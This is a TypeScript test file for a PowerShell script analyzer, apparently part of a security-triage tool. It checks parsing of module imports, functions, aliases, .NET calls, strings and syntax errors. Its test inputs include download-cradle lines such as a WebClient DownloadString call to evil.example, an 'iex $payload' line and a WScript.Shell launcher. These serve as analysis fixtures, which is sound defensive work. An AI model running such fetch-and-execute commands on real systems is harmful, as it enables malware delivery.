// Table tests for the PowerShell analyzer: module references, functions, commands and aliases, .NET calls, strings, comments, syntax errors, positions.
import * as assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { Analyzer } from '../../src/core/analyzers/analyzer';
import { loadPowerShellAnalyzer } from '../../src/core/analyzers/powershell';
import {
  canonicalPowerShellCommand,
  isPowerShellBuiltinModule,
  normalizeDotNetTypeName,
  POWERSHELL_ALIASES,
  POWERSHELL_BUILTIN_MODULES,
  resolvePowerShellAlias,
} from '../../src/core/analyzers/powershell-builtins';
import type { CallSite, ScriptModel, Span } from '../../src/core/model';
import { testHost } from '../helpers';

let analyzer: Analyzer;

before(async () => {
  analyzer = await loadPowerShellAnalyzer(testHost());
});

/** The text a span covers, read the way an editor reads the file (BOM dropped; `\r\n`, `\r`, `\n` end lines). */
function textAt(source: string, span: Span): string {
  const lines = (source.startsWith('\uFEFF') ? source.slice(1) : source).split(/\r\n|\r|\n/);
  const line = (n: number): string => {
    const value = lines[n - 1];
    assert.ok(value !== undefined, `line ${n} is outside the document (${lines.length} lines)`);
    return value;
  };
  if (span.startLine === span.endLine) return line(span.startLine).slice(span.startColumn - 1, span.endColumn - 1);
  const parts = [line(span.startLine).slice(span.startColumn - 1)];
  for (let n = span.startLine + 1; n < span.endLine; n++) parts.push(line(n));
  parts.push(line(span.endLine).slice(0, span.endColumn - 1));
  return parts.join('\n');
}

function analyze(source: string, path?: string): ScriptModel {
  return analyzer.analyze(source, path === undefined ? {} : { path });
}

interface ImportRow {
  module: string;
  kind: string;
  /** The version constraint, when one is expected. */
  version?: string;
  /** The source text under the version span, when it differs from the bare value. */
  versionText?: string;
  nested?: boolean;
}

function imports(source: string, path?: string): ImportRow[] {
  return analyze(source, path).imports.map((ref) => {
    assert.equal(textAt(source, ref.span), ref.module, `span of ${ref.module}`);
    const row: ImportRow = { module: ref.module, kind: ref.kind };
    if (ref.version) {
      row.version = ref.version.text;
      row.versionText = textAt(source, ref.version.span);
    }
    if (ref.isNested) row.nested = true;
    return row;
  });
}

function calls(source: string): CallSite[] {
  const model = analyze(source);
  for (const call of model.calls) assert.equal(textAt(source, call.calleeSpan), call.written, `callee span of ${call.written}`);
  return model.calls;
}

function callees(source: string): string[] {
  return calls(source).map((call) => call.callee);
}

describe('PowerShell module references', () => {
  const rows: [string, ImportRow[]][] = [
    ['Import-Module Az.Accounts', [{ module: 'Az.Accounts', kind: 'import-module' }]],
    [
      'Import-Module -Name Az.Accounts -MinimumVersion 2.12.0',
      [{ module: 'Az.Accounts', kind: 'import-module', version: '>=2.12.0', versionText: '2.12.0' }],
    ],
    [
      "Import-Module 'Az.Accounts' -RequiredVersion '2.12.1'",
      [{ module: 'Az.Accounts', kind: 'import-module', version: '=2.12.1', versionText: '2.12.1' }],
    ],
    ['Import-Module -Name A, B -Force', [{ module: 'A', kind: 'import-module' }, { module: 'B', kind: 'import-module' }]],
    ['Import-Module A,B', [{ module: 'A', kind: 'import-module' }, { module: 'B', kind: 'import-module' }]],
    [
      "Import-Module @('A', \"B\") -MaximumVersion 3.0",
      [
        { module: 'A', kind: 'import-module', version: '<=3.0', versionText: '3.0' },
        { module: 'B', kind: 'import-module', version: '<=3.0', versionText: '3.0' },
      ],
    ],
    [
      "Import-Module -FullyQualifiedName @{ModuleName='Az.Accounts'; ModuleVersion='2.12.0'}",
      [{ module: 'Az.Accounts', kind: 'import-module', version: '>=2.12.0', versionText: '2.12.0' }],
    ],
    [
      "Import-Module -FullyQualifiedName @{ ModuleName = 'Az'; RequiredVersion = '11.0.0'; GUID = 'x' }",
      [{ module: 'Az', kind: 'import-module', version: '=11.0.0', versionText: '11.0.0' }],
    ],
    ['ipmo Pester -Min 5.5.0', [{ module: 'Pester', kind: 'import-module', version: '>=5.5.0', versionText: '5.5.0' }]],
    ['Import-Module -Force -Global Microsoft.Graph.Users', [{ module: 'Microsoft.Graph.Users', kind: 'import-module' }]],
    ['Import-Module .\\Modules\\Helpers.psm1', [{ module: '.\\Modules\\Helpers.psm1', kind: 'import-module' }]],
    ['Import-Module $modulePath', []],
    ['Import-Module "$PSScriptRoot\\x.psm1"', []],
    [
      'Import-Module -Name "Az.Accounts" -MinimumVersion 2.0 -MaximumVersion 2.99',
      [{ module: 'Az.Accounts', kind: 'import-module', version: '>=2.0 <=2.99', versionText: '2.0 -MaximumVersion 2.99' }],
    ],
    ['#Requires -Modules Az.Accounts, Pester', [{ module: 'Az.Accounts', kind: 'requires' }, { module: 'Pester', kind: 'requires' }]],
    [
      "#Requires -Modules @{ ModuleName = 'Az.Accounts'; ModuleVersion = '2.12.0' }",
      [{ module: 'Az.Accounts', kind: 'requires', version: '>=2.12.0', versionText: '2.12.0' }],
    ],
    [
      '#requires -modules @{ModuleName="Az";RequiredVersion="11.0.0"}, "PSFramework"',
      [{ module: 'Az', kind: 'requires', version: '=11.0.0', versionText: '11.0.0' }, { module: 'PSFramework', kind: 'requires' }],
    ],
    [
      "#Requires -Modules @{ ModuleName = 'X'; ModuleVersion = '1.0'; MaximumVersion = '1.9' }",
      [{ module: 'X', kind: 'requires', version: '>=1.0 <=1.9', versionText: "1.0'; MaximumVersion = '1.9" }],
    ],
    ['#Requires -Version 7.2\n#Requires -RunAsAdministrator', []],
    ['# Requires -Modules NotARequiresStatement', []],
    ['Get-X #Requires -Modules NotFirstOnItsLine', []],
    ['using module Az.Accounts\nGet-AzContext', [{ module: 'Az.Accounts', kind: 'using-module' }]],
    ['using module ./Mod.psm1', [{ module: './Mod.psm1', kind: 'using-module' }]],
    ['using module ..\\shared\\x.psd1', [{ module: '..\\shared\\x.psd1', kind: 'using-module' }]],
    [
      "using module @{ ModuleName = 'Az.Accounts'; ModuleVersion = '2.12.0' }",
      [{ module: 'Az.Accounts', kind: 'using-module', version: '>=2.12.0', versionText: '2.12.0' }],
    ],
    ['using namespace System.Net\nusing assembly System.Web', []],
    [
      'Install-Module -Name Az.Accounts -RequiredVersion 2.12.0 -Scope CurrentUser',
      [{ module: 'Az.Accounts', kind: 'install', version: '=2.12.0', versionText: '2.12.0' }],
    ],
    [
      "Install-PSResource -Name Az.Accounts -Version '[2.0.0, 3.0.0)' -TrustRepository",
      [{ module: 'Az.Accounts', kind: 'install', version: '>=2.0.0 <3.0.0', versionText: '[2.0.0, 3.0.0)' }],
    ],
    ['Install-PSResource Pester -Version 5.5.0', [{ module: 'Pester', kind: 'install', version: '=5.5.0', versionText: '5.5.0' }]],
    [
      'Save-Module -Name Pester -Path C:\\bundle -MinimumVersion 5.0',
      [{ module: 'Pester', kind: 'install', version: '>=5.0', versionText: '5.0' }],
    ],
    ['Save-PSResource ImportExcel -Version 7.8.6 -Path .', [{ module: 'ImportExcel', kind: 'install', version: '=7.8.6', versionText: '7.8.6' }]],
    ['Update-Module PSReadLine -MaximumVersion 2.3.99', [{ module: 'PSReadLine', kind: 'install', version: '<=2.3.99', versionText: '2.3.99' }]],
    ['inmo -Force ImportExcel', [{ module: 'ImportExcel', kind: 'install' }]],
    ['function Connect-Tenant {\n  Import-Module Az.Accounts\n}', [{ module: 'Az.Accounts', kind: 'import-module', nested: true }]],
  ];
  for (const [source, expected] of rows) {
    it(JSON.stringify(source), () => {
      assert.deepEqual(imports(source), expected);
    });
  }

  it('reads RequiredModules and NestedModules of a .psd1 manifest', () => {
    const manifest = [
      '@{',
      "    RootModule = 'Soc.psm1'",
      '    RequiredModules = @(',
      "        'Microsoft.PowerShell.Utility'",
      "        @{ ModuleName = 'Az.Accounts'; ModuleVersion = '2.12.0' }",
      '        @{ ModuleName = "Graph"; RequiredVersion = "2.15.0"; GUID = "883916f2-9184-46ee-b1f8-b6a2fb784cee" },',
      "        @{ ModuleName = 'PSFramework'; MaximumVersion = '1.99' }",
      '    )',
      "    NestedModules = 'Private\\Helpers.ps1', @{ ModuleName = 'Charts.psm1'; ModuleVersion = '0.2' }",
      "    FunctionsToExport = @('Get-X')",
      '}',
    ].join('\n');
    assert.deepEqual(imports(manifest, '/repo/Soc/Soc.psd1'), [
      { module: 'Microsoft.PowerShell.Utility', kind: 'manifest' },
      { module: 'Az.Accounts', kind: 'manifest', version: '>=2.12.0', versionText: '2.12.0' },
      { module: 'Graph', kind: 'manifest', version: '=2.15.0', versionText: '2.15.0' },
      { module: 'PSFramework', kind: 'manifest', version: '<=1.99', versionText: '1.99' },
      { module: 'Private\\Helpers.ps1', kind: 'manifest' },
      { module: 'Charts.psm1', kind: 'manifest', version: '>=0.2', versionText: '0.2' },
    ]);
    assert.deepEqual(imports(manifest, '/repo/Soc/Soc.ps1'), [], 'only .psd1 files are manifests');
    assert.deepEqual(imports("@{ RequiredModules = 'A' }", 'C:/repo/X.PSD1'), [{ module: 'A', kind: 'manifest' }]);
  });
});

describe('PowerShell functions', () => {
  it('finds functions, filters, workflows and scope-qualified names', () => {
    const source = [
      'function Get-Alert { }',
      'filter Select-Odd { if ($_ % 2) { $_ } }',
      'workflow Invoke-Flow { Get-Process }',
      'function global:Set-Thing { }',
      'Function Get-Upper { }',
    ].join('\n');
    const model = analyze(source);
    assert.deepEqual(
      model.functions.map((fn) => [fn.name, fn.kind, fn.qualifiedName, textAt(source, fn.nameSpan), fn.isNested]),
      [
        ['Get-Alert', 'function', 'Get-Alert', 'Get-Alert', false],
        ['Select-Odd', 'filter', 'Select-Odd', 'Select-Odd', false],
        ['Invoke-Flow', 'workflow', 'Invoke-Flow', 'Invoke-Flow', false],
        ['Set-Thing', 'function', 'Set-Thing', 'Set-Thing', false],
        ['Get-Upper', 'function', 'Get-Upper', 'Get-Upper', false],
      ],
    );
    const first = model.functions[0];
    assert.ok(first);
    assert.equal(textAt(source, first.span), 'function Get-Alert { }');
  });

  it('handles advanced functions with attributes, param blocks and named blocks', () => {
    const source = [
      'function Invoke-Triage {',
      '    [CmdletBinding(SupportsShouldProcess)]',
      '    param(',
      '        [Parameter(Mandatory, ValueFromPipeline)]',
      '        [string[]]$ComputerName',
      '    )',
      '    begin { $all = @() }',
      '    process { $all += $ComputerName }',
      '    end { $all }',
      '}',
    ].join('\n');
    const model = analyze(source);
    assert.deepEqual(model.syntaxErrors, []);
    assert.equal(model.functions.length, 1);
    const fn = model.functions[0];
    assert.ok(fn);
    assert.deepEqual(fn.span, { startLine: 1, startColumn: 1, endLine: 10, endColumn: 2 });
    assert.equal(textAt(source, fn.nameSpan), 'Invoke-Triage');
  });

  it('accepts a param block followed by code on the same line (a grammar gap)', () => {
    for (const source of ['function F { param($a) iex "x" }', 'function F { [CmdletBinding()] param($a) iex "x" }']) {
      const model = analyze(source);
      assert.deepEqual(model.syntaxErrors, [], source);
      assert.deepEqual(model.functions.map((fn) => fn.name), ['F']);
      assert.deepEqual(model.calls.map((call) => [call.callee, call.arguments[0]?.value]), [['Invoke-Expression', 'x']]);
    }
  });

  it('marks nested functions and qualifies their names', () => {
    const source = 'function Outer {\n  function Inner([int]$n) { $n }\n  Inner 1\n}\nfunction After { }';
    const model = analyze(source);
    assert.deepEqual(
      model.functions.map((fn) => [fn.qualifiedName, fn.isNested, textAt(source, fn.nameSpan)]),
      [
        ['Outer', false, 'Outer'],
        ['Outer.Inner', true, 'Inner'],
        ['After', false, 'After'],
      ],
    );
  });

  it('records class methods and constructors with their class', () => {
    const source = [
      'enum Kind { A; B = 2 }',
      'class Indicator {',
      '    [string] $Value',
      '    Indicator([string] $v) { $this.Value = $v }',
      '    [string] Defang() { return $this.Value.Replace(".", "[.]") }',
      '    static [Kind] Detect([string] $v) { return [Kind]::A }',
      '}',
      'class UrlIndicator : Indicator {',
      '    UrlIndicator([string] $u) : base($u) { }',
      '    hidden [bool] IsInternal() { return $true }',
      '}',
    ].join('\n');
    const model = analyze(source);
    assert.deepEqual(model.syntaxErrors, []);
    assert.deepEqual(
      model.functions.map((fn) => [fn.qualifiedName, fn.kind, fn.className, textAt(source, fn.nameSpan), fn.isNested]),
      [
        ['Indicator.Indicator', 'method', 'Indicator', 'Indicator', false],
        ['Indicator.Defang', 'method', 'Indicator', 'Defang', false],
        ['Indicator.Detect', 'method', 'Indicator', 'Detect', false],
        ['UrlIndicator.UrlIndicator', 'method', 'UrlIndicator', 'UrlIndicator', false],
        ['UrlIndicator.IsInternal', 'method', 'UrlIndicator', 'IsInternal', false],
      ],
    );
  });
});

describe('PowerShell commands and aliases', () => {
  const aliasRows: [string, string][] = [
    ['iex $payload', 'Invoke-Expression'],
    ['IEX $payload', 'Invoke-Expression'],
    ['invoke-expression $payload', 'Invoke-Expression'],
    ['Microsoft.PowerShell.Utility\\Invoke-Expression $payload', 'Invoke-Expression'],
    ["& 'iex' $payload", 'Invoke-Expression'],
    ['iwr https://x.example', 'Invoke-WebRequest'],
    ['irm https://x.example', 'Invoke-RestMethod'],
    ['curl https://x.example', 'Invoke-WebRequest'],
    ['wget https://x.example', 'Invoke-WebRequest'],
    ['ipmo Az.Accounts', 'Import-Module'],
    ['saps calc.exe', 'Start-Process'],
    ['start calc.exe', 'Start-Process'],
    ['gci C:\\', 'Get-ChildItem'],
    ['ls', 'Get-ChildItem'],
    ['dir', 'Get-ChildItem'],
    ['gc log.txt', 'Get-Content'],
    ['cat log.txt', 'Get-Content'],
    ['sc out.txt x', 'Set-Content'],
    ['rm x.txt', 'Remove-Item'],
    ['del x.txt', 'Remove-Item'],
    ['icm -ComputerName h { 1 }', 'Invoke-Command'],
    ['sajb { 1 }', 'Start-Job'],
    ['gwmi Win32_Process', 'Get-WmiObject'],
    ['Get-MyThing -X 1', 'Get-MyThing'],
    ['.\\Invoke-Local.ps1 -A 1', '.\\Invoke-Local.ps1'],
    ['& $scriptBlock 1', '$scriptBlock'],
  ];
  for (const [source, callee] of aliasRows) {
    it(`${source} → ${callee}`, () => {
      const [call] = calls(source);
      assert.equal(call?.callee, callee);
    });
  }

  it('resolves aliases inside pipelines', () => {
    assert.deepEqual(callees('gci | ? { $_.Length -gt 1kb } | % { $_.Name } | select Name | sort Name | ft | fl'), [
      'Get-ChildItem', 'Where-Object', 'ForEach-Object', 'Select-Object', 'Sort-Object', 'Format-Table', 'Format-List',
    ]);
    assert.deepEqual(callees('dir | foreach { $_ } | where { $_ }'), ['Get-ChildItem', 'ForEach-Object', 'Where-Object']);
    assert.deepEqual(callees('$items | ForEach-Object -Parallel { $_ } -ThrottleLimit 5'), ['ForEach-Object']);
    assert.deepEqual(callees('$items | % Name'), ['ForEach-Object']);
  });

  it('keeps what was written', () => {
    const [call] = calls('curl.exe -s https://x.example');
    assert.equal(call?.written, 'curl.exe');
    assert.equal(call?.callee, 'curl.exe', 'an executable is not the alias');
    assert.equal(calls('wget https://x.example')[0]?.written, 'wget');
  });

  it('binds parameters, switches, colon values, positional values and splats', () => {
    const source = "Invoke-WebRequest 'https://x.contoso.com/a' -UseBasicParsing -TimeoutSec 30 -OutFile:$out -Confirm:$false @extra -Method Post";
    const [call] = calls(source);
    assert.deepEqual(
      call?.arguments.map((argument) => [argument.name, argument.text, argument.value, textAt(source, argument.span)]),
      [
        [undefined, "'https://x.contoso.com/a'", 'https://x.contoso.com/a', "'https://x.contoso.com/a'"],
        ['UseBasicParsing', '-UseBasicParsing', true, '-UseBasicParsing'],
        ['TimeoutSec', '30', 30, '30'],
        ['OutFile', '$out', undefined, '$out'],
        ['Confirm', '$false', false, '$false'],
        [undefined, '@extra', undefined, '@extra'],
        ['Method', 'Post', 'Post', 'Post'],
      ],
    );
  });

  it('reads literal values', () => {
    const source = 'Set-Thing -A "x`ty" -B 0x10 -C 1.5 -D 2kb -E $null -F $true -G -1 -H "a $b" -I (Get-Date)';
    const [call] = calls(source);
    assert.deepEqual(
      call?.arguments.map((argument) => [argument.name, argument.value]),
      [
        ['A', 'x\ty'],
        ['B', 16],
        ['C', 1.5],
        ['D', 2048],
        ['E', null],
        ['F', true],
        ['G', -1],
        ['H', 'a $b'],
        ['I', undefined],
      ],
    );
  });

  it('keeps comma lists together as one argument', () => {
    const source = 'Get-ChildItem -Include *.ps1, *.psm1 -Recurse\nSelect-Object Name, @{ n = "Size"; e = { $_.Length } }, Mode';
    const model = analyze(source);
    assert.deepEqual(model.syntaxErrors, []);
    assert.deepEqual(
      model.calls.map((call) => call.arguments.map((argument) => [argument.name, textAt(source, argument.span), argument.value])),
      [
        [
          ['Include', '*.ps1, *.psm1', undefined],
          ['Recurse', '-Recurse', true],
        ],
        [[undefined, 'Name, @{ n = "Size"; e = { $_.Length } }, Mode', undefined]],
      ],
    );
  });

  it('records Start-BitsTransfer and dot-sourcing', () => {
    const source = ". $PSScriptRoot\\lib.ps1\nStart-BitsTransfer -Source 'https://files.contoso.com/a.zip' -Destination C:\\a.zip";
    const model = analyze(source);
    assert.deepEqual(model.syntaxErrors, []);
    assert.deepEqual(model.calls.map((call) => call.callee), ['$PSScriptRoot\\lib.ps1', 'Start-BitsTransfer']);
    assert.deepEqual(model.calls[1]?.arguments.map((argument) => [argument.name, argument.value]), [
      ['Source', 'https://files.contoso.com/a.zip'],
      ['Destination', 'C:\\a.zip'],
    ]);
  });
});

describe('PowerShell .NET calls', () => {
  const rows: [string, [string, unknown[]][]][] = [
    [
      "[Net.WebClient]::new().DownloadString('http://evil.example/a.ps1')",
      [
        ['System.Net.WebClient.DownloadString', ['http://evil.example/a.ps1']],
        ['System.Net.WebClient.new', []],
      ],
    ],
    [
      '$wc = New-Object System.Net.WebClient\n$wc.DownloadString("http://x.example/$id")',
      [
        ['New-Object', ['System.Net.WebClient']],
        ['System.Net.WebClient.new', []],
        ['System.Net.WebClient.DownloadString', ['http://x.example/$id']],
      ],
    ],
    [
      "(New-Object Net.WebClient).DownloadFile('https://a.example/b.exe', 'C:\\b.exe')",
      [
        ['System.Net.WebClient.DownloadFile', ['https://a.example/b.exe', 'C:\\b.exe']],
        ['New-Object', ['Net.WebClient']],
        ['System.Net.WebClient.new', []],
      ],
    ],
    ["[System.Net.Dns]::GetHostAddresses('contoso.com')", [['System.Net.Dns.GetHostAddresses', ['contoso.com']]]],
    ['[Convert]::FromBase64String($blob)', [['System.Convert.FromBase64String', [undefined]]]],
    [
      "$shell = New-Object -ComObject WScript.Shell\n$shell.Run('calc.exe', 0)",
      [
        ['New-Object', ['WScript.Shell']],
        ['WScript.Shell.new', []],
        ['WScript.Shell.Run', ['calc.exe', 0]],
      ],
    ],
    [
      "$c = New-Object -TypeName System.Net.Sockets.TcpClient -ArgumentList 'h.example', 443",
      [
        ['New-Object', ['System.Net.Sockets.TcpClient', undefined]],
        ['System.Net.Sockets.TcpClient.new', ['h.example', 443]],
      ],
    ],
    ["$list.Add('a')", [['$list.Add', ['a']]]],
    ["$http.GetAsync('https://a.example').GetAwaiter().GetResult()", [
      ['$http.GetAsync().GetAwaiter().GetResult', []],
      ['$http.GetAsync().GetAwaiter', []],
      ['$http.GetAsync', ['https://a.example']],
    ]],
  ];
  for (const [source, expected] of rows) {
    it(JSON.stringify(source), () => {
      assert.deepEqual(
        calls(source).map((call) => [call.callee, call.arguments.map((argument) => argument.value)]),
        expected,
      );
    });
  }

  it('normalizes type names', () => {
    assert.equal(normalizeDotNetTypeName('[Net.WebClient]'), 'System.Net.WebClient');
    assert.equal(normalizeDotNetTypeName('net.webclient'), 'System.Net.WebClient');
    assert.equal(normalizeDotNetTypeName('System.Net.WebClient'), 'System.Net.WebClient');
    assert.equal(normalizeDotNetTypeName('IO.File'), 'System.IO.File');
    assert.equal(normalizeDotNetTypeName('uri'), 'System.Uri');
    assert.equal(normalizeDotNetTypeName('Text.Encoding'), 'System.Text.Encoding');
    assert.equal(normalizeDotNetTypeName('Microsoft.Win32.Registry'), 'Microsoft.Win32.Registry');
    assert.equal(normalizeDotNetTypeName('MyClass'), 'MyClass');
  });
});

describe('PowerShell strings and comments', () => {
  it('decodes every kind of string literal', () => {
    const source = [
      "$a = 'It''s'",
      '$b = "Tab`there ""quoted"" $name $($x.Y)"',
      "$c = @'",
      'verbatim $notExpanded',
      "  'quotes'",
      "'@",
      '$d = @"',
      'Hello $env:USERNAME`t!',
      '"@',
    ].join('\n');
    const model = analyze(source);
    assert.deepEqual(model.syntaxErrors, []);
    assert.deepEqual(
      model.strings.map((string) => string.value),
      ["It's", 'Tab\there "quoted" $name $($x.Y)', "verbatim $notExpanded\n  'quotes'", 'Hello $env:USERNAME\t!'],
    );
    assert.deepEqual(
      model.strings.map((string) => textAt(source, string.span).split('\n')[0]),
      ["'It''s'", '"Tab`there ""quoted"" $name $($x.Y)"', "@'", '@"'],
    );
  });

  it('finds strings inside subexpressions', () => {
    const model = analyze('Write-Host "Total: $((Get-Item \'a.txt\').Length)"');
    assert.deepEqual(model.strings.map((string) => string.value), ["Total: $((Get-Item 'a.txt').Length)", 'a.txt']);
  });

  it('finds line and block comments', () => {
    const source = '# first\nGet-X # trailing\n<#\n  .SYNOPSIS\n  Help\n#>\n<# inline #> Get-Y';
    const model = analyze(source);
    assert.deepEqual(
      model.comments.map((comment) => [comment.text, comment.isOwnLine, textAt(source, comment.span).split('\n')[0]]),
      [
        ['first', true, '# first'],
        ['trailing', false, '# trailing'],
        ['.SYNOPSIS\n  Help', true, '<#'],
        ['inline', true, '<# inline #>'],
      ],
    );
  });
});

describe('PowerShell syntax errors', () => {
  const invalid = [
    'function F {\n  Get-X\n',
    'if ($a { Get-X }',
    '$x = "unterminated\nGet-X',
    'Get-X | | Get-Y',
    '$h = @{ a = 1',
    'foreach ($i in ) { }',
  ];
  for (const source of invalid) {
    it(`reports ${JSON.stringify(source)}`, () => {
      const model = analyze(source);
      assert.ok(model.syntaxErrors.length > 0, 'expected a syntax error');
      for (const problem of model.syntaxErrors) {
        assert.ok(problem.message.length > 0);
        assert.ok(problem.span.startLine >= 1 && problem.span.endLine <= model.lineCount);
      }
    });
  }

  // Valid PowerShell that the grammar rejects without the analyzer's repairs.
  const valid = [
    'function F { param($a) iex "x" }',
    'Import-Module -Name A, B',
    'Select-Object Name, Length',
    "$p | Select-Object TaskName, @{ Name = 'A'; Expression = { 1 } } | Export-Csv x.csv",
    'Get-ChildItem -Include *.ps1, *.psm1',
    '. $PSScriptRoot/lib.ps1\n. $PSScriptRoot\\lib.ps1\nGet-Content $env:TEMP\\x.txt',
    'if ($_.Length -gt 100MB) { 1GB }',
    ':outer foreach ($i in 1..3) { foreach ($j in 1..3) { continue outer; break outer } }',
    '$x | ForEach-Object -Parallel { $_ } -ThrottleLimit 4',
    '$x | ForEach-Object -MemberName Name\n$x | % Name',
    '$x.ForEach({ $_ * 2 })',
    "$v = $a ?? 'default'\n$b ??= 5",
    'class A : B {\n  A([string]$x) : base($x) { }\n}',
    'using namespace System.Net\nusing module Az.Accounts\n[CmdletBinding()]\nparam([string]$Name)\nGet-X $Name',
    "switch ($x) { { $_ -gt 1 } { 'big' } 'a' { 'a' } default { 'small' } }",
    '1..10 | ForEach-Object -Begin { $s = 0 } -Process { $s += $_ } -End { $s }',
    'Get-ADUser -Filter * -Properties LastLogonDate, MemberOf | Select-Object Name, LastLogonDate',
    '#Requires -Version 7.2',
    '# only a comment',
    '',
    'param($a)',
  ];
  for (const source of valid) {
    it(`does not report valid ${JSON.stringify(source)}`, () => {
      assert.deepEqual(analyze(source).syntaxErrors, []);
    });
  }
});

describe('PowerShell positions', () => {
  it('counts CRLF lines and keeps spans on their line', () => {
    const source = 'Import-Module A\r\n\r\nImport-Module B\r\n# note\r\n';
    const model = analyze(source);
    assert.equal(model.lineCount, 5);
    assert.deepEqual(model.imports.map((ref) => [ref.module, ref.span.startLine, textAt(source, ref.span)]), [
      ['A', 1, 'A'],
      ['B', 3, 'B'],
    ]);
    assert.deepEqual(model.comments.map((comment) => [comment.text, comment.span]), [
      ['note', { startLine: 4, startColumn: 1, endLine: 4, endColumn: 7 }],
    ]);
  });

  it('treats a lone CR as a line break', () => {
    const source = 'Get-A\rImport-Module B';
    const model = analyze(source);
    assert.equal(model.lineCount, 2);
    assert.deepEqual(model.imports[0]?.span, { startLine: 2, startColumn: 15, endLine: 2, endColumn: 16 });
  });

  it('does not count a BOM as a column', () => {
    const source = '\uFEFFImport-Module Az.Accounts';
    const [ref] = analyze(source).imports;
    assert.ok(ref);
    assert.deepEqual(ref.span, { startLine: 1, startColumn: 15, endLine: 1, endColumn: 26 });
    assert.equal(textAt(source, ref.span), 'Az.Accounts');
  });

  it('counts columns in UTF-16 code units after non-ASCII text', () => {
    const source = "$s = 'é😀ü'; Import-Module Zzz\n$t = \"日本\"; iex $t";
    const model = analyze(source);
    assert.deepEqual(model.imports.map((ref) => [ref.span.startColumn, textAt(source, ref.span)]), [[28, 'Zzz']]);
    assert.equal(model.strings[0]?.value, 'é😀ü');
    const iex = model.calls.find((call) => call.callee === 'Invoke-Expression');
    assert.equal(iex && textAt(source, iex.calleeSpan), 'iex');
  });

  it('gives the same model twice and never throws on odd input', () => {
    for (const source of ['', '\n', '}}}', '@"', "'", '<#', '`', 'function', '[', '$(', '\u0000\u0001', 'a'.repeat(5000)]) {
      const first = analyze(source);
      assert.deepEqual(analyze(source), first);
      assert.ok(first.lineCount >= 1);
    }
  });
});

describe('PowerShell built-ins', () => {
  it('knows the modules that ship with PowerShell and Windows', () => {
    for (const name of ['Microsoft.PowerShell.Utility', 'microsoft.powershell.management', 'CimCmdlets', 'PSReadLine', 'ThreadJob', 'Defender', 'NetTCPIP', 'DnsClient', 'ScheduledTasks', 'Microsoft.PowerShell.PSResourceGet']) {
      assert.ok(isPowerShellBuiltinModule(name), name);
    }
    for (const name of ['Az.Accounts', 'Pester', 'ActiveDirectory', 'Hyper-V', 'ExchangeOnlineManagement', 'Microsoft.Graph.Users']) {
      assert.ok(!isPowerShellBuiltinModule(name), name);
    }
    assert.equal(new Set(POWERSHELL_BUILTIN_MODULES.map((name) => name.toLowerCase())).size, POWERSHELL_BUILTIN_MODULES.length);
  });

  it('resolves aliases with their editions', () => {
    assert.equal(resolvePowerShellAlias('IEX'), 'Invoke-Expression');
    assert.equal(resolvePowerShellAlias('Get-ChildItem'), undefined);
    assert.deepEqual(POWERSHELL_ALIASES.get('curl')?.editions, ['desktop']);
    assert.deepEqual(POWERSHELL_ALIASES.get('ls')?.editions, ['desktop', 'core-windows']);
    assert.deepEqual(POWERSHELL_ALIASES.get('iwr')?.editions, ['desktop', 'core-windows', 'core-unix']);
    for (const [key, alias] of POWERSHELL_ALIASES) {
      assert.equal(key, alias.alias.toLowerCase());
      assert.ok(alias.editions.length > 0, key);
    }
    assert.equal(canonicalPowerShellCommand('start-bitstransfer'), 'Start-BitsTransfer');
    assert.equal(canonicalPowerShellCommand('Get-Custom'), 'Get-Custom');
  });
});
